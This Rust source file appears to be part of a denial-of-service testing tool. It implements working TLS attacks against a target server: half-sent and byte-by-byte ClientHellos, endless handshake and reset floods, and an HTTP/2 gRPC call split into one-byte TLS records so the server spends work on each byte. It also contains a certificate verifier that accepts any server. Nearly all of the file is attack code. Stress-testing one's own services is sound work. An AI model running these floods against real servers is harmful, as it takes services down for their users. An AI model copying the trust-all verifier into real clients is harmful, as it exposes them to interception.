//! Floods of TLS handshakes, and of records of one byte. The first message of a client is made once and
//! sent again and again: so it costs the attacker nothing, and the server a key agreement and a signature
//! each time.

use std::io::{self, Write as _};
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::aws_lc_rs::default_provider;
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme};
use socket2::SockRef;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::sleep;
use tokio_rustls::TlsConnector;
use whimbrel::api::v1::NewsFeedRequest;

use crate::floods::NEWS_FEED;
use crate::raw::{
    DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, call_headers, frame, grpc_frame,
};
use crate::target::Attacked;

/// Between two bytes of a slow client.
const SLOW: Duration = Duration::from_millis(20);
/// Longer than a flood.
const LONG: Duration = Duration::from_secs(3_600);

static CONFIG: LazyLock<Arc<ClientConfig>> = LazyLock::new(|| {
    let mut config = ClientConfig::builder_with_provider(Arc::new(default_provider()))
        .with_safe_default_protocol_versions()
        .expect("the versions of the library")
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(TrustsAll))
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    // A resumed session would cost the server less.
    config.resumption = rustls::client::Resumption::disabled();
    Arc::new(config)
});

/// The first message of a client.
static HELLO: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let mut client = ClientConnection::new(Arc::clone(&CONFIG), name()).expect("a good name");
    let mut hello = Vec::new();
    client.write_tls(&mut hello).expect("memory takes it");
    hello
});

/// Half of a ClientHello, and nothing more.
pub(crate) async fn half(to: Attacked) -> io::Result<()> {
    let mut socket = TcpStream::connect(to.address).await?;
    socket.write_all(&HELLO[..HELLO.len() / 2]).await?;
    // Until it is closed.
    let _ = socket.read(&mut [0]).await?;
    Ok(())
}

pub(crate) async fn byte_by_byte(to: Attacked) -> io::Result<()> {
    let mut socket = TcpStream::connect(to.address).await?;
    for byte in HELLO.iter() {
        socket.write_all(&[*byte]).await?;
        sleep(SLOW).await;
    }
    sleep(LONG).await;
    Ok(())
}

/// A ClientHello, after whose answer the connection is reset: as many as can be.
pub(crate) async fn left(to: Attacked) -> io::Result<()> {
    loop {
        let mut socket = TcpStream::connect(to.address).await?;
        // So that no port waits for stray packets.
        SockRef::from(&socket).set_linger(Some(Duration::ZERO))?;
        socket.write_all(&HELLO).await?;
        let _ = socket.read(&mut [0]).await?;
    }
}

/// Whole handshakes, as many as can be.
pub(crate) async fn whole(to: Attacked) -> io::Result<()> {
    loop {
        let socket = TcpStream::connect(to.address).await?;
        SockRef::from(&socket).set_linger(Some(Duration::ZERO))?;
        let _connected = TlsConnector::from(Arc::clone(&CONFIG)).connect(name(), socket).await?;
    }
}

/// Calls of which each byte has a record of its own: the server decrypts 23 bytes for one.
pub(crate) async fn records_of_one_byte(to: Attacked) -> io::Result<()> {
    let socket = TcpStream::connect(to.address).await?;
    socket.set_nodelay(true)?;
    let tls = TlsConnector::from(Arc::clone(&CONFIG)).connect(name(), socket).await?;
    let (socket, mut client) = tls.into_inner();
    let (mut answers, mut socket) = socket.into_split();
    let sends = async {
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        for stream in (1_u32..).step_by(2) {
            bytes.extend(frame(HEADERS, END_HEADERS, stream, &call_headers(NEWS_FEED)));
            bytes.extend(frame(DATA, END_STREAM, stream, &grpc_frame(&NewsFeedRequest::default())));
            let mut records = Vec::new();
            for byte in bytes.drain(..) {
                client.writer().write_all(&[byte])?;
                client.write_tls(&mut records)?;
            }
            socket.write_all(&records).await?;
        }
        Ok(())
    };
    // Answers are taken, and not looked at.
    let mut nowhere = tokio::io::sink();
    let takes = async { tokio::io::copy(&mut answers, &mut nowhere).await.map(drop) };
    tokio::select! { ended = sends => ended, ended = takes => ended }
}

fn name() -> ServerName<'static> {
    "localhost".try_into().expect("a good name")
}

/// An attacker takes any server for the right one.
#[derive(Debug)]
struct TrustsAll;

impl ServerCertVerifier for TrustsAll {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        default_provider().signature_verification_algorithms.supported_schemes()
    }
}
